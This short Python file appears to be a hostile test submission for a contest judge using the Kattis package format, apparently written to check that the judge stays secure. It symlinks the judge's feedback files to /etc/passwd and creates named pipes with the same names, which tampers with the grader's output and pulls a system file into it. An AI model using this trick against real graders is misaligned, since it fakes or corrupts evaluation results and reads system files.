# technique: files with the names of feedback, links among them, and a clean end
# source: Kattis problem package format: score.txt, judgemessage.txt
# verdict: WA
# invariant: the judge fetches nothing from the submission's box
# without: seccomp
import os

for name in ("score.txt", "judgemessage.txt", "nextpass.in", "score_multiplier.txt", "judgeerror.txt"):
    os.symlink("/etc/passwd", f"/work/{name}")
    os.mkfifo(f"/tmp/{name}")
print("42")
